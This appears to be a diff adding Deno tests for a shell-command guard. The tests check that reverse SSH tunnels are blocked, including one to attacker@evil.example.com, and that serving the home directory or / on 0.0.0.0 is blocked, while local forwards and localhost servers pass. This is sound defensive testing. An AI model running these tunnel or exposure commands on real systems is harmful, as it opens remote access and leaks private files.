@@ -1,0 +1,41 @@
+import assert from "node:assert/strict";
+import { blocked, fired, HOME } from "./test_helpers.ts";
+
+Deno.test("exposure: reverse tunnels block, local forwards pass", () => {
+  for (
+    const cmd of [
+      "ssh -R 8080:localhost:22 attacker@evil.example.com",
+      "ssh -fNR 2222:127.0.0.1:22 user@203.0.113.5",
+      "ssh -o RemoteForward='9000 localhost:22' relay@203.0.113.7",
+      "autossh -M 0 -R 9000:localhost:22 relay",
+    ]
+  ) assert.ok(blocked(cmd).includes("reverse_tunnel"), `${cmd}: ${fired(cmd)}`);
+  for (
+    const cmd of [
+      "ssh -L 5432:localhost:5432 bastion",
+      "ssh -N -L 8080:localhost:80 web.example.com",
+      "ssh -T git@github.com",
+      "ssh host 'ls -R /srv'",
+    ]
+  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
+});
+
+Deno.test("exposure: serving home or / to the network blocks", () => {
+  for (
+    const cmd of [
+      "python3 -m http.server 8000 --bind 0.0.0.0 --directory ~",
+      "cd ~ && python3 -m http.server",
+      "python3 -m http.server -d / 9999",
+      "php -S 0.0.0.0:8000 -t ~",
+    ]
+  ) assert.ok(blocked(cmd).includes("home_served"), `${cmd}: ${fired(cmd)}`);
+  for (
+    const cmd of [
+      "python3 -m http.server 8000",
+      "python3 -m http.server --directory dist 8080",
+      "python3 -m http.server --bind 127.0.0.1 --directory ~",
+      "php -S localhost:8000 -t public",
+    ]
+  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
+  assert.ok(HOME);
+});
